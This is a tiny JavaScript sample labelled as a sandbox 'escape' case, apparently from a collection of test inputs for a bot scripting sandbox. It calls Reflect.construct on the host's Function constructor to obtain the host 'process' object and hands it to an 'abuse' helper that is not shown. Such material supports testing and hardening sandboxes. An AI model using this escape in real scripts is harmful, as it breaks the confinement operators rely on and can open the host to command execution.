// family: escape
// Reflect.construct with a function of the host
async function main (bot) {
  const made = Reflect.construct(Function, ['return process'], bot.chat)
  abuse(bot, made())
}
